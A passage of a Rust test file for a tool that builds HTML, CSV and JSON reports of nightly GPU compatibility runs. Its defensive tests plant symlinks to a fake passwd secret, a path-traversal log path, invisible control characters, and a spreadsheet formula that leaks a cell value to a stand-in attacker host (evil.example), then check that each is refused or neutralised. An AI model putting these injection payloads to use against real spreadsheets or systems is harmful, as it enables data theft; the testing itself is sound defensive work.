            "screenshot suspiciously small ({} bytes)",
            bytes.len()
        );
    }
}

/// The file stem the report gives the hostile id (sanitised plus a hash).
fn evil_stem() -> String {
    let ctx_page = {
        let (sandbox, last, tonight_dir) = nightlies();
        let ctx = build_context(
            &[last, tonight_dir],
            &sandbox.path().join("o"),
            &ReportOptions::default(),
        )
        .expect("build context");
        ctx.cells
            .iter()
            .find(|c| c.id == EVIL_ID)
            .expect("the hostile cell")
            .page
            .clone()
    };
    ctx_page
        .trim_start_matches("cells/")
        .trim_end_matches(".html")
        .to_owned()
}

/// Every file under `dir`, recursively, as text.
fn all_text(dir: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("read folder") {
        let path = entry.expect("folder entry").path();
        if path.is_dir() {
            out.extend(all_text(&path));
        } else {
            let bytes = std::fs::read(&path).expect("read file");
            out.push((path, String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    out
}

const SECRET: &str = "root:x:0:0:planted secret outside the run folder";

/// A symbolic link planted in a run folder's `logs/` (to a file, or `logs/` itself to another
/// folder) is never read: nothing of its target reaches the report, the cell page and stderr
/// say which file was refused, and the rest of the report is written.
#[test]
fn report_never_reads_a_log_through_a_symbolic_link() {
    let regressed = id("0.6.11.post1", "sm_90", QWEN);
    let log = format!("logs/{regressed}.log");
    // (what is planted, where the report goes: beside or in the run folder)
    let cases: [(&str, bool); 4] = [
        ("file", false),
        ("file", true),
        ("folder", false),
        ("folder", true),
    ];
    for (planted, in_place) in cases {
        let (sandbox, _last, tonight_dir) = nightlies();
        let outside = sandbox.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("passwd"), format!("{SECRET}\n")).unwrap();
        let refused = match planted {
            "file" => {
                std::fs::remove_file(tonight_dir.join(&log)).unwrap();
                std::os::unix::fs::symlink(outside.join("passwd"), tonight_dir.join(&log)).unwrap();
                log.clone()
            }
            _ => {
                std::fs::rename(tonight_dir.join("logs"), outside.join("logs")).unwrap();
                std::fs::copy(
                    outside.join("passwd"),
                    outside.join("logs").join(format!("{regressed}.log")),
                )
                .unwrap();
                std::os::unix::fs::symlink(outside.join("logs"), tonight_dir.join("logs")).unwrap();
                "logs".to_owned()
            }
        };
        let out = if in_place {
            tonight_dir.clone()
        } else {
            sandbox.path().join("report")
        };
        let output = report(&[&tonight_dir], &out, &[]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        let case = format!("{planted} link, in place: {in_place}");
        assert_eq!(output.status.code(), Some(0), "{case}: {stderr}");
        assert!(
            stderr.contains(&format!(
                "warning: cell `{regressed}`: log not read: `{refused}` is a symbolic link"
            )),
            "{case}: {stderr}"
        );
        let report_files = all_text(&out);
        for (path, text) in &report_files {
            if path.starts_with(out.join("logs")) && in_place {
                continue; // the run's own (planted) folder, not written by the report
            }
            assert!(
                !text.contains(SECRET),
                "{case}: {} has the secret",
                path.display()
            );
        }
        let page = read(&out.join(format!("cells/{regressed}.html")));
        assert!(
            page.contains(&format!("Log not read: `{refused}` is a symbolic link.")),
            "{case}: {page}"
        );
        assert!(
            !page.contains(&format!("href=\"../{log}\"")),
            "{case}: {page}"
        );
        // The rest of the report is whole.
        assert!(out.join("index.html").is_file(), "{case}");
        assert_eq!(
            std::fs::read_dir(out.join("cells")).unwrap().count(),
            tonight().len(),
            "{case}"
        );
        if planted == "file" && !in_place {
            let other = format!("logs/{}.log", id("0.6.3", "sm_90", QWEN));
            assert!(
                read(&out.join(&other)).contains("ok"),
                "{case}: {other} not copied"
            );
        }
    }
}

/// A formula in a matrix value and in a fingerprint, for a spreadsheet to run.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
/// Right-to-left override, zero-width space, an isolate, BEL and a C1 control.
const INVISIBLE: &str = "\u{202e}\u{200b}\u{2066}\u{7}\u{85}";

/// Tonight's run plus a cell whose value, id, reason, fingerprint and log carry formulas and
/// invisible characters; returns (sandbox, last night, tonight, the hostile cell's id).
fn nightlies_with_invisible_text() -> (Sandbox, PathBuf, PathBuf, String) {
    let (sandbox, last, tonight_dir) = nightlies();
    let mut records = tonight();
    let mut r = rec(
        "0.6.3",
        "sm_90",
        FORMULA,
        Status::Fail,
        Some(Signature::Oom),
    );
    r.id = format!("rtl{INVISIBLE}cell");
    r.log = "logs/rtl.log".to_owned();
    r.line = Some(2);
    r.reason = Some(format!("reason{INVISIBLE}end"));
    r.fingerprint = Some(format!("-2+3 {INVISIBLE}"));
    r.values
        .insert("note".into(), json!(format!("@SUM(1){INVISIBLE}")));
    records.push(r.clone());
    write_run(&tonight_dir, "2026-11-21T02:00:00Z", &records);
    std::fs::write(
        tonight_dir.join("logs/rtl.log"),
        format!("start\nCUDA out of memory {INVISIBLE} gpj.exe\nend\n"),
    )
    .expect("write fixture");
    (sandbox, last, tonight_dir, r.id)
}

/// Invisible characters from logs, values and ids are shown as `\u{...}` in every output, and
/// CSV cells that a spreadsheet would run as formulas are text; compat.json keeps the data.
#[test]
fn outputs_show_invisible_characters_and_neutralise_formulas() {
    let (sandbox, last, tonight_dir, hostile) = nightlies_with_invisible_text();
    let out = sandbox.path().join("report");
    let output = report(&[&last, &tonight_dir], &out, &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    let invisible = |text: &str| {
        text.chars().find(|c| {
            (c.is_control() && !matches!(c, '\n' | '\t' | '\r')) || INVISIBLE.contains(*c)
        })
    };
    let ctx = build_context(
        &[last.clone(), tonight_dir.clone()],
        &out,
        &ReportOptions::default(),
    )
    .unwrap();
    let page = ctx
        .cells
        .iter()
        .find(|c| c.id == hostile)
        .unwrap()
        .page
        .clone();
    // (output, text that shows the override)
    let shown: [(&str, &str); 5] = [
        ("index.html", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
        (
            &page,
            r"CUDA out of memory \u{202e}\u{200b}\u{2066}\u{7}\u{85} gpj.exe",
        ),
        (
            "compat.md",
            r"rtl\\u\{202e\}\\u\{200b\}\\u\{2066\}\\u\{7\}\\u\{85\}cell",
        ),
        (
            "compat.csv",
            r"reason\u{202e}\u{200b}\u{2066}\u{7}\u{85}end",
        ),
        ("junit.xml", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
    ];
    for (file, expected) in shown {
        let text = read(&out.join(file));
        assert_eq!(
            invisible(&text),
            None,
            "{file} carries an invisible character"
        );
        assert!(text.contains(expected), "{file} lacks {expected}:\n{text}");
    }
    for (path, text) in all_text(&out.join("plots")) {
        assert_eq!(invisible(&text), None, "{}", path.display());
    }

    // CSV: formulas are text; the same cells in compat.json are the data as recorded.
    let mut csv = csv::Reader::from_path(out.join("compat.csv")).unwrap();
    let header = csv.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = csv
        .records()
        .map(Result::unwrap)
        .find(|r| r[0].starts_with("rtl"))
        .expect("the hostile row");
    for (name, expected) in [
        ("model", format!("'{FORMULA}")),
        (
            "note",
            r"'@SUM(1)\u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
        ),
        (
            "fingerprint",
            r"'-2+3 \u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
        ),
        ("duration_s", "61.5".to_owned()),
    ] {
        assert_eq!(row[column(name)], expected, "csv column {name}");
    }
    let json: Value = serde_json::from_str(&read(&out.join("compat.json"))).unwrap();
    let cell = json["cells"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == hostile.as_str())
        .expect("the hostile cell in compat.json");
    assert_eq!(cell["values"][2]["value"], FORMULA, "{cell}");
    assert_eq!(cell["reason"], format!("reason{INVISIBLE}end"));

    // The terminal: compare's table and Markdown, report's warnings.
    for format in ["table", "md"] {
        let (_, text) = compare(&last, &tonight_dir, format);
        assert_eq!(invisible(&text), None, "compare --format {format}");
        assert!(text.contains("202e"), "compare --format {format}:\n{text}");
    }
    std::fs::remove_file(tonight_dir.join("logs/rtl.log")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", tonight_dir.join("logs/rtl.log")).unwrap();
    let output = report(&[&last, &tonight_dir], &out, &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(invisible(&stderr), None, "{stderr}");
    assert!(stderr.contains(r"cell `rtl\u{202e}"), "{stderr}");
}

/// A bisect folder written by hand: `bisect.json` and a log per probe run.
fn write_bisect(dir: &Path, file: &Value) {
    std::fs::create_dir_all(dir.join("logs")).expect("create folder");
    for run in file["runs"].as_array().expect("runs") {
        let log = run["log"].as_str().expect("log");
        if !log.starts_with("..") {
            std::fs::write(dir.join(log), format!("log of {}\n", run["cell"])).expect("log");
        }
    }
    std::fs::write(
        dir.join("bisect.json"),
        serde_json::to_string_pretty(file).expect("serialize"),
    )
    .expect("write fixture");
}

fn probe_run(value: Option<&str>, bumps: Option<&[&str]>, verdict: &str, log: &str) -> Value {
    let bad = verdict == "bad";
    json!({
        "value": value, "bumps": bumps, "pins": [format!("flashinfer-python=={}", value.unwrap_or("0.6.11.post1"))],
        "cell": log.trim_start_matches("logs/").trim_end_matches(".log"), "attempt": 1,
        "verdict": verdict, "status": if bad { "fail" } else { "pass" },
        "signature": if bad { Some("illegal_address") } else { None },
        "phase": if bad { "infer" } else { "teardown" }, "log": log, "duration_s": 12.5
    })
}

/// Two bisects of tonight's regressed cell (a version bisect and a later attribution) and one
/// whose cell tonight passes; what the view model makes of them.
#[test]
fn context_with_bisects_snapshot() {
    let (sandbox, last, tonight_dir) = nightlies();
    let values = json!({"flashinfer": "0.6.11.post1", "gpu": "sm_90", "model": QWEN});
    let version = json!({
        "format_version": 1, "kind": "version", "state": "finished",
        "matrix": "matrices/nightly.toml", "matrix_hash": "ab", "cell": "0.6.11.post1-sm_90-qwen3-30b-a3b",
        "values": values,
        "inputs": {"axis": "flashinfer", "good": "0.6.3", "bad": "0.6.11.post1", "retries": 1, "candidates_from": "matrix"},
        "candidates": ["0.6.3", "0.6.8", "0.6.10", "0.6.11.post1"],
        "signature": "illegal_address", "first_bad": "0.6.10", "last_good": "0.6.8",
        "converged": true, "probes": 4, "bound": 4,
        "runs": [
            probe_run(Some("0.6.11.post1"), None, "bad", "logs/0.6.11.post1.log"),
            probe_run(Some("0.6.3"), None, "good", "logs/0.6.3.log"),
            probe_run(Some("0.6.8"), None, "good", "logs/0.6.8.log"),
            probe_run(Some("0.6.10"), None, "bad", "logs/0.6.10.log"),
        ],
        "started_at": "2026-11-21T08:00:00Z", "finished_at": "2026-11-21T08:30:00Z"
    });
    let attribution = json!({
        "format_version": 1, "kind": "attribution", "state": "finished",
        "matrix": "matrices/nightly.toml", "matrix_hash": "ab", "cell": "0.6.11.post1-sm_90-qwen3-30b-a3b",
        "values": values,
        "inputs": {"base": ["flashinfer-cubin==0.6.8"], "head": ["flashinfer-cubin==0.6.10"], "retries": 1, "candidates_from": "base and head pins"},
        "bumps": [{"package": "flashinfer-cubin", "base": "0.6.8", "head": "0.6.10"}],
        "signature": "illegal_address", "culprits": ["flashinfer-cubin"],
        "converged": true, "probes": 2,
        "runs": [
            probe_run(None, Some(&[]), "good", "logs/attr-base.log"),
            probe_run(None, Some(&["flashinfer-cubin"]), "bad", "../../outside.log"),
        ],
        "started_at": "2026-11-21T09:00:00Z", "finished_at": "2026-11-21T09:10:00Z"
    });
    let elsewhere = json!({
        "format_version": 1, "kind": "version", "state": "finished",
        "matrix": "matrices/nightly.toml", "matrix_hash": "ab", "cell": "0.6.11.post1-sm_89-x",
        "values": {"flashinfer": "0.6.11.post1", "gpu": "sm_89", "model": QWEN},
        "inputs": {"axis": "flashinfer", "good": "0.6.3", "bad": "0.6.11.post1", "retries": 1, "candidates_from": "matrix"},
        "signature": null, "first_bad": null, "last_good": null, "converged": false,
        "reason": "the bad end `flashinfer = 0.6.11.post1` passed", "probes": 1,
        "runs": [probe_run(Some("0.6.11.post1"), None, "good", "logs/x.log")],
        "started_at": "2026-11-21T07:00:00Z"
    });
    let bisects = sandbox.path().join("bisects");
    write_bisect(&bisects.join("fi-version"), &version);
    write_bisect(&bisects.join("fi-attr"), &attribution);
    write_bisect(&bisects.join("other"), &elsewhere);
    let out = sandbox.path().join("report");
    let options = ReportOptions {
        bisects: vec![bisects.join("fi-attr"), bisects.join("other")],
        ..ReportOptions::default()
    };
    // One bisect among the run folders, two with `--bisect`.
    let ctx = build_context(
        &[tonight_dir, bisects.join("fi-version"), last],
        &out,
        &options,
    )
    .unwrap();
    assert_eq!(ctx.runs.len(), 2, "a bisect folder is not a run");
    // Over nights, the bisect stands beside the failing cell's row too.
    let explained_cell = ctx
        .cells
        .iter()
        .find(|c| c.id == "0.6.11.post1-sm_90-qwen3-30b-a3b")
        .and_then(|c| c.bisect.as_ref())
        .expect("the bisected cell");
    let row = ctx
        .nights
        .as_ref()
        .and_then(|n| {
            n.rows
                .iter()
                .find(|r| r.id == "0.6.11.post1-sm_90-qwen3-30b-a3b")
        })
        .expect("its row over the nights");
    assert_eq!(row.bisect.as_deref(), Some(explained_cell.note.as_str()));
    assert!(row.failing_since.is_some());
    let badges: Vec<(&str, &str)> = ctx
        .tables
        .iter()
        .flat_map(|t| t.rows.iter().flat_map(|r| r.cells.iter().flatten()))
        .filter_map(|b| Some((b.id.as_str(), b.bisect.as_deref()?)))
        .collect();
    let explained: Vec<Value> = ctx
        .cells
        .iter()
        .filter(|c| c.bisect.is_some())
        .map(|c| json!({"id": c.id, "bisect": c.bisect}))
        .collect();
    let warnings: Vec<&String> = ctx
        .warnings
        .iter()
        .filter(|w| w.contains("bisect"))
        .collect();
    let shown = json!({
        "badges": badges, "cells": explained, "bisects": ctx.bisects, "warnings": warnings,
    });
    let temp = sandbox.path().display().to_string();
    insta::with_settings!({filters => vec![(temp.as_str(), "[TEMP]")]}, {
        insta::assert_json_snapshot!("bisects_context", shown);
    });
}

/// Seven nights of four cells, rendered with `--nights 5`: the two oldest are left out; a cell
/// that broke and stays broken is failing since its first bad night and never called flaky; one
/// that flips and flips back with the same pins flaked on the nights between; a cell only
/// older nights had keeps its row without a page. The grid, the trend plot and the dashed
/// flakes are in the page a real browser renders, and it runs no script.
#[test]
fn nights_dashboard_shows_failing_since_last_good_flakes_and_trend() {
    let sandbox = Sandbox::new();
    let broken = |n: usize| if n >= 4 { Status::Fail } else { Status::Pass };
    let flipping = |n: usize| {
        if n == 3 || n == 5 {
            Status::Fail
        } else {
            Status::Pass
        }
    };
    let mut dirs = Vec::new();
    for night in 0..7 {
        let mut records = Vec::new();
        let sig = |s: Status| (s == Status::Fail).then_some(Signature::IllegalAddress);
        records.push(rec(
            "0.6.3",
            "sm_90",
            QWEN,
            broken(night),
            sig(broken(night)),
        ));
        records.push(rec(
            "0.6.11.post1",
            "sm_90",
            QWEN,
            flipping(night),
            sig(flipping(night)),
        ));
        records.push(rec("0.6.3", "sm_89", QWEN, Status::Pass, None));
        if night <= 3 {
            records.push(rec("0.6.11.post1", "sm_89", QWEN, Status::Pass, None));
        }
        let dir = sandbox
            .path()
            .join(format!("runs/2026-11-{:02}", night + 1));
        write_run(
            &dir,
            &format!("2026-11-{:02}T02:00:00Z", night + 1),
            &records,
        );
        dirs.push(dir);
    }
    let out = sandbox.path().join("site");
    let refs: Vec<&Path> = dirs.iter().map(PathBuf::as_path).collect();
    let output = report(&refs, &out, &["--nights", "5"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("(5 runs, tonight `2026-11-07`)"),
        "{output:?}"
    );
    let ctx: Value = serde_json::from_str(&read(&out.join("compat.json"))).expect("json");
    let nights = &ctx["nights"];
    assert_eq!(nights["left_out"], 2);
    let labels: Vec<&str> = nights["nights"]
        .as_array()
        .expect("nights")
        .iter()
        .map(|n| n["label"].as_str().expect("label"))
        .collect();
    assert_eq!(labels, ["11-03", "11-04", "11-05", "11-06", "11-07"]);
    let rows = nights["rows"].as_array().expect("rows");
    let ids: Vec<&str> = rows.iter().map(|r| r["id"].as_str().expect("id")).collect();
    assert_eq!(
        ids,
        [
            "0.6.3-sm_90-qwen3-30b-a3b",
            "0.6.11.post1-sm_90-qwen3-30b-a3b",
            "0.6.3-sm_89-qwen3-30b-a3b",
            "0.6.11.post1-sm_89-qwen3-30b-a3b",
        ],
        "failing first, then flaky, then the rest"
    );
    let broken_row = &rows[0];
    assert_eq!(broken_row["failing_since"], "2026-11-05");
    assert_eq!(broken_row["failing_since_window_start"], false);
    assert_eq!(broken_row["last_good"], "2026-11-04");
    assert_eq!(broken_row["flakes"], 0);
    let flaky_row = &rows[1];
    let flaked: Vec<bool> = flaky_row["states"]
        .as_array()
        .expect("states")
        .iter()
        .map(|s| s["flake"].as_bool().expect("flake"))
        .collect();
    // Pass, fail, pass, fail, pass: each night inside flipped and flipped back.
    assert_eq!(flaked, [false, true, true, true, false]);
    assert_eq!(flaky_row["flake_rate"], 0.6);
    assert_eq!(flaky_row["failing_since"], Value::Null);
    let gone = &rows[3];
    assert_eq!(gone["page"], Value::Null, "tonight has no page of it");
    assert_eq!(gone["states"][2], Value::Null);
    // Pass rate per night: 4 of 4, 3 of 4 (the flip), 2 of 3, 1 of 3, 2 of 3.
    assert_eq!(
        nights["trend"][0]["values"],
        json!([100.0, 75.0, 66.7, 33.3, 66.7])
    );
    let trend = read(&out.join("plots/trend.svg"));
    assert!(trend.contains("11-03") && trend.contains("67"), "{trend}");

    let profile = sandbox.path().join("chromium-profile");
    let dom = chromium(
        &profile,
        &["--dump-dom".into(), url(&out.join("index.html"))],
    );
    assert!(dom.contains("<table class=\"nights\">"), "{dom}");
    assert!(
        dom.contains("class=\"n s-fail flake\""),
        "a dashed flake: {dom}"
    );
    assert!(dom.contains("3/5 (60%)"), "{dom}");
    assert!(dom.contains("2 cells steady over these nights"), "{dom}");
    assert!(!dom.contains("<script"), "{dom}");
    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("report-nights");
    std::fs::create_dir_all(&shots).expect("create folder");
    let png = shots.join("index.png");
    let _ = std::fs::remove_file(&png);
    chromium(
        &profile,
        &[
            format!("--screenshot={}", png.display()),
            "--window-size=1400,1200".into(),
            url(&out.join("index.html")),
        ],
    );
    assert!(
        std::fs::read(&png)
            .expect("screenshot")
            .starts_with(b"\x89PNG")
    );

    // A window of no nights is bad input.
    assert_eq!(
        report(&refs, &out, &["--nights", "0"]).status.code(),
        Some(2)
    );
}
